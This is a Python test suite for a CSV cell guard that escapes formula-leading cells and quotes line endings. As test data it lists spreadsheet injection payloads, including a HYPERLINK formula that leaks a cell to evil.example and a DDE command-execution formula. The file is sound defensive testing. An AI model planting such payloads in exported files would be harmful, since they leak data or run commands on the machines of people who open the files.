"""Cells of CSV: formulas that spreadsheets would run are text, and any reader finds the same rows."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobs.cells import guard_cell, write_row

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+47 22 33 44 55",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
)
CELLS = st.one_of(st.text(max_size=12), st.sampled_from(FORMULAS), st.integers(), st.floats(0, 1), st.none())
LINE_ENDS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    """Formulas get an apostrophe before them, unless raw cells are requested."""
    assert guard_cell(text) == f"'{text}"
    [cell] = next(csv.reader(io.StringIO(write_row([text]), newline="")))
    assert cell == f"'{text}"
    [cell] = next(csv.reader(io.StringIO(write_row([text], safe=False), newline="")))
    assert cell == text


@pytest.mark.parametrize("text", ["Ada", "a=b", "1", "", "'=1", "a-b", " x", "\u2010"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    """Only the first character decides."""
    assert guard_cell(text) == text


def test_numbers_stay_numbers() -> None:
    """Offsets and scores are not guarded, whatever their sign; nothing is an empty cell."""
    assert write_row([-1, 0.25, None, "x"]) == "-1,0.25,,x\r\n"
    assert write_row([-1, "a\tb"], "\t") == '-1\t"a\tb"\r\n'


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), max_size=4), st.booleans(), st.sampled_from([",", "\t"]))
def test_rows_come_back(rows: list[list[object]], safe: bool, delimiter: str) -> None:
    """A reader of RFC 4180 finds every cell."""
    written = "".join(write_row(row, delimiter, safe=safe) for row in rows)
    read = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))
    texts = [["" if cell is None else str(cell) for cell in row] for row in rows]
    expected = [
        [guard_cell(text) if safe and isinstance(cell, str) else text for cell, text in zip(*pair, strict=True)]
        for pair in zip(rows, texts, strict=True)
    ]
    assert read == expected


@given(st.text(alphabet="ab" + LINE_ENDS, max_size=6))
def test_line_ends_in_cells_are_quoted(text: str) -> None:
    """Every character at which some reader ends a line stands between quotes."""
    row = write_row([text, 1]).removesuffix(",1\r\n")
    assert row.startswith('"') == any(end in text for end in LINE_ENDS)
